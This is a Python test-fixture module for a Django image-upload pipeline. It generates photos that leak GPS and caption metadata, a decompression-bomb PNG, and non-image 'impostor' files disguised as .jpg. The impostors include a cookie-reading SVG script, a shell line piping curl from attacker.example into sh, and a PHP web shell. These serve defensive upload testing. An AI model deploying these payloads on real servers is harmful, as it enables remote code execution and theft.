"""Real files, made on the spot, for every kind of upload an editor (or an attacker) may send."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

GPS_LATITUDE = (30.0, 2.0, 0.0)  # central Cairo, the kind of thing that must not leak
XMP_WITH_GPS = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description '
    b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="30,2.0N"/>'
    b"</rdf:RDF></x:xmpmeta>"
)


def image_bytes(pillow_format="JPEG", size=(640, 360), color=(120, 30, 30), mode="RGB", **save):
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, format=pillow_format, **save)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type="image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def jpeg(name="photo.jpg", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("JPEG", **kwargs))


def png(name="chart.png", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("PNG", **kwargs), "image/png")


def webp(name="photo.webp", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("WEBP", **kwargs), "image/webp")


def gif(name="anim.gif", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("GIF", mode="P", color=3, **kwargs), "image/gif")


def camera_jpeg(name="phone.jpg", orientation=6, size=(60, 40)) -> SimpleUploadedFile:
    """A phone photo stored sideways (60×40, top half red, bottom half blue) with an EXIF
    orientation saying "turn me 90° clockwise", GPS coordinates, XMP and a comment."""
    width, height = size
    image = Image.new("RGB", size, (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, width, height // 2))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "NewsroomPhone"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps.update({1: "N", 2: GPS_LATITUDE, 3: "E", 4: (31.0, 14.0, 0.0)})
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=95, exif=exif, xmp=XMP_WITH_GPS, comment=b"Cairo")
    return upload(name, buffer.getvalue())


TRAILING_BYTES = b"--trailing: lat=30.0333 lon=31.2333 camera serial 0042--"
IPTC_CAPTION = b"Source: a protester's phone, Tahrir Square"
GIF_COMMENT = b"shot by a stringer in Giza"
XMP_NAMESPACE = b"http://ns.adobe.com/xap/1.0/"


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _iptc_segment() -> bytes:
    """APP13 as Photoshop writes IPTC: a caption dataset (2:120) inside an 8BIM resource."""
    dataset = b"\x1c\x02\x78" + struct.pack(">H", len(IPTC_CAPTION)) + IPTC_CAPTION
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(dataset)) + dataset
    return _jpeg_segment(0xED, b"Photoshop 3.0\x00" + resource)


def leaky_jpeg(name="IMG_1234.jpg", orientation=6, size=(60, 40)) -> SimpleUploadedFile:
    """`camera_jpeg` (EXIF orientation, camera make, GPS, XMP, comment) plus IPTC and bytes
    after the image's end: everything a phone or an agency's pipeline may leave in a photo."""
    content = camera_jpeg(name, orientation, size).read()
    content = content[:2] + _iptc_segment() + content[2:] + TRAILING_BYTES
    return upload(name, content)


def _xmp_gif_extension(packet: bytes) -> bytes:
    """XMP in a GIF: an application extension whose data is the raw packet followed by the
    258-byte "magic trailer" that lets a decoder skip it as sub-blocks (XMP spec, part 3)."""
    magic = bytes([1, *range(255, -1, -1), 0])
    return b"\x21\xff\x0bXMP DataXMP" + packet + magic


def leaky_gif(name="animation.gif") -> SimpleUploadedFile:
    """An animated GIF (3 frames, 100/200/300 ms, looping forever, transparent background)
    carrying an XMP packet with GPS, a comment and bytes after its trailer."""
    buffer = io.BytesIO()
    frames = animation_frames()
    frames[0].save(
        buffer,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=[100, 200, 300],
        loop=0,
        disposal=2,
        comment=GIF_COMMENT,
    )
    content = buffer.getvalue()
    # After the header, screen descriptor and global colour table, before the first frame.
    flags = content[10]
    table = 3 << ((flags & 7) + 1) if flags & 0x80 else 0
    at = 13 + table
    content = content[:at] + _xmp_gif_extension(XMP_WITH_GPS) + content[at:] + TRAILING_BYTES
    return upload(name, content, "image/gif")


def animation_frames() -> list[Image.Image]:
    """A red square crossing a transparent strip, a green corner fixed: 3 frames of 30×20."""
    frames = []
    for step in range(3):
        frame = Image.new("RGBA", (30, 20), (0, 0, 0, 0))
        frame.paste((255, 0, 0, 255), (step * 8, 5, step * 8 + 8, 13))
        frame.paste((0, 200, 0, 255), (0, 0, 3, 3))
        frames.append(frame)
    return frames


def leaky_png(name="chart.png") -> SimpleUploadedFile:
    """A PNG with text chunks, EXIF with GPS, an ICC profile and trailing bytes."""
    from PIL import PngImagePlugin

    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "stringer")
    text.add_itxt("XML:com.adobe.xmp", XMP_WITH_GPS.decode())
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 200)).save(
        buffer, "PNG", pnginfo=text, exif=_gps_exif(), icc_profile=srgb_profile()
    )
    return upload(name, buffer.getvalue() + TRAILING_BYTES, "image/png")


def leaky_webp(name="photo.webp") -> SimpleUploadedFile:
    """A WebP with EXIF (GPS), XMP, an ICC profile and trailing bytes."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 120, 10)).save(
        buffer, "WEBP", exif=_gps_exif(), xmp=XMP_WITH_GPS, icc_profile=srgb_profile()
    )
    return upload(name, buffer.getvalue() + TRAILING_BYTES, "image/webp")


def _gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "NewsroomPhone"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update({1: "N", 2: GPS_LATITUDE})
    return exif


def srgb_profile() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def _icc_xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ " + b"\x00" * 4 + _s15(x) + _s15(y) + _s15(z)


def icc_swapping_red_and_blue() -> bytes:
    """An ICC v2 RGB display profile whose red and blue primaries are sRGB's blue and red:
    a pixel stored as pure red is pure blue once the profile is applied. Only a CMS that
    really converts gets that right; one that drops the profile keeps it red."""
    red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7141)
    gamma = b"curv" + b"\x00" * 4 + struct.pack(">IH", 1, round(2.2 * 256)) + b"\x00\x00"
    name = b"swapped primaries\x00"
    description = (
        b"desc" + b"\x00" * 4 + struct.pack(">I", len(name)) + name + b"\x00" * 8 + b"\x00" * 70
    )
    tags = [
        (b"desc", description),
        (b"wtpt", _icc_xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", _icc_xyz(*blue)),
        (b"gXYZ", _icc_xyz(*green)),
        (b"bXYZ", _icc_xyz(*red)),
        (b"rTRC", gamma),
        (b"gTRC", gamma),
        (b"bTRC", gamma),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table, data = b"", b""
    for signature, body in tags:
        body += b"\x00" * (-len(body) % 4)
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body
    header = (
        struct.pack(">I", offset + len(data))
        + b"\x00" * 4
        + bytes([2, 0x10, 0, 0])
        + b"mntrRGB XYZ "
        + b"\x00" * 12
        + b"acsp"
        + b"\x00" * 28
        + _icc_xyz(0.9642, 1.0, 0.8249)[8:]
    )
    header += b"\x00" * (128 - len(header))
    return header + struct.pack(">I", len(tags)) + table + data


def red_jpeg_in_swapped_profile(name="agency.jpg") -> SimpleUploadedFile:
    """Pure red pixels tagged with `icc_swapping_red_and_blue`: they mean pure blue."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (255, 0, 0)).save(
        buffer, "JPEG", quality=95, icc_profile=icc_swapping_red_and_blue()
    )
    return upload(name, buffer.getvalue())


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def decompression_bomb_png(name="bomb.png", width=100_000, height=100_000) -> SimpleUploadedFile:
    """A few hundred bytes that declare billions of pixels: decoding it would eat the server."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    # Rows of zeros compress to almost nothing; a real bomb would hold them all.
    data = zlib.compress(b"\x00" * (1 + 3 * 1000) * 10, 9)
    content = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )
    return upload(name, content, "image/png")


def truncated(upload_file: SimpleUploadedFile, keep: float = 0.6) -> SimpleUploadedFile:
    content = upload_file.read()
    return upload(upload_file.name, content[: int(len(content) * keep)], upload_file.content_type)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
PDF_DOCUMENT = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
PHP_SCRIPT = b"<?php system($_GET['c']); ?>"

IMPOSTORS = {
    "svg": SVG_WITH_SCRIPT,
    "html": HTML_PAGE,
    "pdf": PDF_DOCUMENT,
    "shell script": SHELL_SCRIPT,
    "php script": PHP_SCRIPT,
}


def impostor(kind: str) -> SimpleUploadedFile:
    """Something that is not an image, renamed to look like one."""
    return upload(f"{kind.replace(' ', '-')}.jpg", IMPOSTORS[kind])


def files_in(folder) -> list[str]:
    """Every file under a media folder, as relative paths (what a refusal must leave: none)."""
    if not folder.exists():
        return []
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file())
